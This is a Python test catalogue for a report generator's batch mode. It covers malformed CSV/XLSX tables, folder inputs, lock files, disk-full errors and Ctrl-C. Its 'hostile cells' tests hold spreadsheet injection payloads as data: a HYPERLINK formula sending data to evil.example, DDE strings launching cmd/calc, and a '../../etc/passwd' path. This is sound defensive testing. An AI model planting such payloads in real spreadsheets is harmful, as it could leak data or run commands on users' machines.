"""Catalogue: batch tables (.csv/.xlsx/folders), summary outputs, the folder lock, Ctrl-C."""
from __future__ import annotations

import errno
import io
import json
import os
import zipfile

from .cases_inputs import BOMB
from .harness import Case
from .material import SAMPLE, bomb, csv_rows, sample_row, sample_table, write

CASES: list[Case] = []
WATCH = "watch"  # in-process with a SIGALRM watchdog (a few stay real subprocesses: REAL)
UNIT = "单位名称"


def add(*a, **kw):
    CASES.append(Case(*a, **kw))


def batch(*extra, table="t.csv"):
    return ["batch", table, "--base", "base.yaml", "-o", "out", "-j", "1", "--no-check", *extra]


def rows_case(rows, table="t.csv"):
    def setup(d):
        csv_rows(d, rows, table)
        return batch(table=table)
    return setup


def _summary(d):
    return json.loads((d / "out" / "summary.json").read_text(encoding="utf-8"))


def _xlsx_cells(d):
    import openpyxl
    wb = openpyxl.load_workbook(d / "out" / "summary.xlsx")
    return [c for row in wb["汇总"].iter_rows() for c in row]


def _inert(d, out):
    for c in _xlsx_cells(d):
        assert c.data_type != "f", f"live formula in summary.xlsx: {c.coordinate} {c.value!r}"
    with zipfile.ZipFile(d / "out" / "summary.xlsx") as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet


def _no_controls_in_xlsx(d, out):
    _inert(d, out)
    for c in _xlsx_cells(d):
        if isinstance(c.value, str):
            assert not any(ord(ch) < 32 and ch not in "\n\t\r" for ch in c.value), c.value


# ---------------------------------------------------------------- hostile cells
for name, value in [("esc", "青石\x1b[31m镇人民政府"), ("nul", "青石\x00镇人民政府"), ("bel", "青石镇\x07人民政府"),
                    ("vt", "青石镇\x0b人民政府"), ("c1", "青石镇\x9b人民政府"), ("del", "青石镇\x7f人民政府")]:
    add(f"batch-cell-{name}", "batch", rows_case([sample_row(**{UNIT: value})]), expect="found",
        outputs=("out/summary.json", "out/summary.xlsx"), check=_no_controls_in_xlsx)
for name, value in [("hyperlink", '=HYPERLINK("http://evil.example/?x="&A1,"点击")'), ("plus", "+1+2"),
                    ("minus", "-2+3+cmd|' /C calc'!A0"), ("at", "@SUM(1,2)"), ("tab-eq", "\t=1+1"),
                    ("cr-eq", "\r=1+1"), ("dde", "=cmd|' /C notepad'!'A1'")]:
    add(f"batch-formula-{name}", "batch", rows_case([sample_row(**{UNIT: value})]), expect="found",
        outputs=("out/summary.json", "out/summary.xlsx"), check=_inert, english_ok=("HYPERLINK", "evil", "example",
                                                                                        "calc", "notepad", "cmd", "SUM"))
add("batch-formula-signer", "batch", rows_case([sample_row(签发人="=1+1")]), expect="found",
    outputs=("out/summary.xlsx",), check=_inert)
add("batch-cell-newline-name", "batch", rows_case([sample_row(**{UNIT: "青石镇\n人民政府"})]), expect="found",
    outputs=("out/summary.xlsx",))
add("batch-cell-huge", "batch", rows_case([sample_row(**{UNIT: "镇" * 200_000})]), expect="refused", says="过长")
add("batch-cell-long", "batch", rows_case([sample_row(**{UNIT: "镇" * 100_000})]), expect="errors", says="过长")
add("batch-name-slash", "batch", rows_case([sample_row(**{UNIT: "../../etc/passwd"})]), expect="found",
    outputs=("out/summary.json",), check=lambda d, o: _stays_inside(d))
add("batch-name-con", "batch", rows_case([sample_row(**{UNIT: "CON"})]), expect="found", outputs=("out/summary.json",))
add("batch-name-summary", "batch", rows_case([sample_row(**{UNIT: "summary"})]), expect="found",
    outputs=("out/summary.json", "out/summary.xlsx"))
add("batch-dup-units", "batch", rows_case([sample_row(), sample_row()]), expect="found",
    says="重复", outputs=("out/summary.json",))
add("batch-number-text", "batch", rows_case([sample_row(网站数量="一个")]), expect="errors", says="网站数量|第\\d+行")
add("batch-number-negative", "batch", rows_case([sample_row(网站数量="-3")]), expect="errors", says="第\\d+行")
add("batch-number-huge", "batch", rows_case([sample_row(网站数量="9" * 5000)]), expect="found")
add("batch-number-float", "batch", rows_case([sample_row(网站数量="1.5")]), expect="errors", says="第\\d+行")
add("batch-number-nan", "batch", rows_case([sample_row(网站数量="nan")]), expect="errors", says="第\\d+行")
add("batch-number-inf", "batch", rows_case([sample_row(网站数量="1e999")]), expect="errors", says="第\\d+行")
add("batch-empty-rows", "batch", rows_case([[""] * 22, [""] * 22]), expect="refused", says="没有数据行")
add("batch-header-only", "batch", rows_case([]), expect="refused", says="没有数据行")
add("batch-short-row", "batch", rows_case([["青石镇人民政府"]]), expect="errors")
add("batch-long-row", "batch", rows_case([sample_row() + ["多余"] * 30]), expect="found")
add("batch-csv-nul", "batch", lambda d: (sample_table(d), write(d, "t.csv", (d / "t.csv").read_bytes() + b"\x00\x00"),
                                         batch())[2], expect="failed", says="t.csv")
add("batch-csv-binary", "batch", lambda d: (sample_table(d), write(d, "t.csv", bytes(range(256)) * 10), batch())[2],
    expect="failed", says="t.csv")
add("batch-csv-gbk", "batch", lambda d: (sample_table(d),
                                         write(d, "t.csv", (d / "t.csv").read_text("utf-8-sig").encode("gbk")),
                                         batch())[2], expect="found", outputs=("out/summary.xlsx",))
add("batch-csv-empty", "batch", lambda d: (sample_table(d), write(d, "t.csv", b""), batch())[2], expect="refused",
    says="t.csv")
add("batch-csv-quotes", "batch", lambda d: (sample_table(d), write(d, "t.csv", '单位名称\n"青石镇\n'), batch())[2],
    expect="failed", says="t.csv")
add("batch-csv-unknown-col", "batch", lambda d: (sample_table(d), write(d, "t.csv", "单位名称,不存在的列\n青石镇人民政府,1\n"),
                                                 batch())[2], expect="failed", says="不存在的列")
add("batch-csv-huge", "batch", lambda d: (sample_table(d), write(d, "t.csv", b"a" * 60_000_000), batch())[2],
    expect="refused", says="太大|上限")
add("batch-xlsx-not-zip", "batch", lambda d: (sample_table(d), write(d, "t.xlsx", "单位名称\n"), batch(table="t.xlsx"))[2],
    expect="refused", says="t.xlsx")
add("batch-xlsx-truncated", "batch",
    lambda d: (sample_table(d, "t.xlsx"), write(d, "t.xlsx", (d / "t.xlsx").read_bytes()[:3000]), batch(table="t.xlsx"))[2],
    expect="refused", says="t.xlsx")
add("batch-xlsx-bomb", "batch",
    lambda d: (sample_table(d, "t.xlsx"), bomb(d, "t.xlsx", "xl/worksheets/sheet1.xml", 300_000_000,
                                               base=(d / "t.xlsx").read_bytes()), batch(table="t.xlsx"))[2],
    expect="refused", says="压缩|解压", timeout=40)
add("batch-xlsx-docx-inside", "batch",
    lambda d: (sample_table(d), __import__("shutil").copy(d / "t.csv", d / "x.csv"),
               write(d, "t.xlsx", _docx()), batch(table="t.xlsx"))[3], expect="refused", says="t.xlsx")
add("batch-table-missing", "batch", lambda d: (sample_table(d), batch(table="nosuch.csv"))[1], expect="refused",
    says="nosuch.csv")
add("batch-table-ext", "batch", lambda d: (sample_table(d), write(d, "t.ods", "x"), batch(table="t.ods"))[2],
    expect="refused", says="t.ods")
add("batch-table-fifo", "special", lambda d: (sample_table(d), os.unlink(d / "t.csv"), os.mkfifo(d / "t.csv"), batch())[3],
    expect="refused", says="管道", subprocess=WATCH, timeout=20)
add("batch-table-dev-zero", "special",
    lambda d: (sample_table(d), os.unlink(d / "t.csv"), os.symlink("/dev/zero", d / "t.csv"), batch())[3],
    expect="refused", says="设备", subprocess=WATCH, timeout=20)


def _docx():
    from .material import docx_bytes
    return docx_bytes()


def _stays_inside(d):
    outs = [p for p in d.rglob("*.docx")]
    assert outs and all(p.parent == d / "out" for p in outs), outs


# ---------------------------------------------------------------- folder mode
def folder_case(files: dict, *extra):
    def setup(d):
        for name, text in files.items():
            write(d / "units", name, text)
        return ["batch", "units", "-o", "out", "-j", "1", "--no-check", *extra]
    return setup


GOOD = SAMPLE
add("batch-folder-timestamp", "batch", folder_case({"a.yaml": GOOD, "b.yaml": GOOD.replace("  total: 1\n", "  total: !!timestamp foo\n")}),
    expect="errors", says="b.yaml 第\\d+行", outputs=("out/summary.json",),
    check=lambda d, o: _statuses(d, {"ok": 1, "failed": 1}))
add("batch-folder-bomb", "batch", folder_case({"a.yaml": GOOD, "b.yaml": "genre: website-selfcheck\n" + BOMB}), expect="errors", says="b.yaml", subprocess=WATCH, timeout=30)
add("batch-folder-binary", "batch", folder_case({"a.yaml": GOOD, "b.yaml": "\x00\x01\x02"}), expect="errors",
    says="b.yaml", check=lambda d, o: _statuses(d, {"ok": 1, "failed": 1}))
add("batch-folder-empty", "batch", lambda d: ((d / "units").mkdir(), ["batch", "units", "-o", "out"])[1],
    expect="refused", says="units")
add("batch-folder-same-out", "batch", folder_case({"a.yaml": GOOD}, "-o", "units"), expect="refused", says="相同|输入")
add("batch-folder-fifo-member", "special", lambda d: (folder_case({"a.yaml": GOOD})(d), os.mkfifo(d / "units" / "f.yaml"),
                                                      ["batch", "units", "-o", "out", "-j", "1", "--no-check"])[2],
    expect="failed", subprocess=WATCH, timeout=30, says="f.yaml")


def _statuses(d, want):
    got = {}
    for r in _summary(d):
        got[r["status"]] = got.get(r["status"], 0) + 1
    assert got == want, got


# ---------------------------------------------------------------- outputs, lock, write failures, Ctrl-C
add("batch-out-is-file", "outputs", lambda d: (sample_table(d), write(d, "out", "x"), batch())[2], expect="refused",
    says="文件夹")
add("batch-summary-is-dir", "outputs", lambda d: (sample_table(d), os.makedirs(d / "out" / "summary.json"), batch())[2],
    expect="refused", says="summary.json")
add("batch-summary-xlsx-is-docx", "outputs",
    lambda d: (sample_table(d), write(d, "out/summary.xlsx", _docx()), batch())[2], expect="refused", says="summary.xlsx")
add("batch-table-is-summary", "outputs",
    lambda d: (sample_table(d, "t.xlsx"), os.makedirs(d / "out"), os.rename(d / "t.xlsx", d / "out" / "summary.xlsx"),
               os.rename(d / "t-清单.csv", d / "out" / "summary-清单.csv"),
               ["batch", "out/summary.xlsx", "--base", "base.yaml", "-o", "out", "-j", "1", "--no-check",
                "--lists", "out/summary-清单.csv"])[4], expect="refused", says="输入")
add("batch-base-in-out", "outputs",
    lambda d: (sample_table(d), os.makedirs(d / "out"), os.rename(d / "base.yaml", d / "out" / "summary.json"),
               ["batch", "t.csv", "--base", "out/summary.json", "-o", "out"])[3], expect="refused")
add("batch-rerun-replaces", "outputs", lambda d: (sample_table(d), _run_once(d), batch())[2], expect="found",
    changes=tuple(f"out/{n}" for n in ("summary.json", "summary.xlsx")) + ("out/*",),
    outputs=("out/summary.json", "out/summary.xlsx"))


def _run_once(d):
    from .harness import _run_inprocess
    code, out, err = _run_inprocess(batch(), None)
    assert code in (0, 1), out + err


def _lock(d, pid, host=None):
    import socket
    write(d, "out/.gwreport-batch.lock", f"pid={pid}\nhost={host or socket.gethostname()}\n")


add("batch-lock-live", "outputs", lambda d: (sample_table(d), _lock(d, os.getppid()), batch())[2], expect="refused",
    says=r"正由另一个.*进程 \d+", absent=("out/summary.json",))
add("batch-lock-stale", "outputs", lambda d: (sample_table(d), _lock(d, 2 ** 22 + 12345), batch())[2], expect="found",
    says="未正常结束", changes=("out/.gwreport-batch.lock",), outputs=("out/summary.json",),
    absent=("out/.gwreport-batch.lock",))
add("batch-lock-garbage", "outputs", lambda d: (sample_table(d), write(d, "out/.gwreport-batch.lock", b"\xff\x00garbage"),
                                                batch())[2], expect="found", changes=("out/.gwreport-batch.lock",),
    absent=("out/.gwreport-batch.lock",))
add("batch-lock-other-host", "outputs", lambda d: (sample_table(d), _lock(d, 1, "另一台电脑"), batch())[2],
    expect="refused", says="另一台电脑")
add("batch-lock-released", "outputs", lambda d: (sample_table(d), batch())[1], expect="found",
    absent=("out/.gwreport-batch.lock",))


def _fail_save(mp, err=errno.ENOSPC):
    import openpyxl.workbook.workbook as wbmod

    def save(self, filename):
        raise OSError(err, "No space left on device")
    mp.setattr(wbmod.Workbook, "save", save)


def _fail_json(mp):
    import pathlib
    real = pathlib.Path.write_text

    def write_text(self, *a, **kw):
        if "summary" in self.name:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(self, *a, **kw)
    mp.setattr(pathlib.Path, "write_text", write_text)


add("batch-summary-xlsx-disk-full", "disk", lambda d: (sample_table(d), batch())[1], patch=_fail_save, expect="found",
    says="磁盘空间不足", check=lambda d, o: _report_printed(d, o), absent=("out/summary.xlsx",))
add("batch-summary-xlsx-locked", "disk", lambda d: (sample_table(d), batch())[1],
    patch=lambda mp: _fail_save(mp, errno.EACCES), expect="found", says="打开|权限",
    check=lambda d, o: _report_printed(d, o))
add("batch-summary-json-disk-full", "disk", lambda d: (sample_table(d), batch())[1], patch=_fail_json, expect="found",
    says="磁盘空间不足", check=lambda d, o: _report_printed(d, o), absent=("out/summary.json",))


def _report_printed(d, out):
    assert "共 14 个单位" in out, out


def _ctrl_c_after(n):
    def patch(mp):
        import gwreport.batch as b
        real = b.run_job
        calls = []

        def run_job(job):
            calls.append(job)
            if len(calls) > n:
                raise KeyboardInterrupt
            return real(job)
        mp.setattr(b, "run_job", run_job)
    return patch


def _interrupted(d, out):
    rows = _summary(d)
    assert len(rows) == 3 and all(r["status"] == "ok" for r in rows), rows
    assert len(list((d / "out").glob("*.docx"))) == 3


add("batch-ctrl-c", "batch", lambda d: (sample_table(d), batch())[1], patch=_ctrl_c_after(3), expect="interrupted",
    says="已中断.*11 个单位未生成", outputs=("out/summary.json", "out/summary.xlsx"), check=_interrupted,
    absent=("out/.gwreport-batch.lock",))
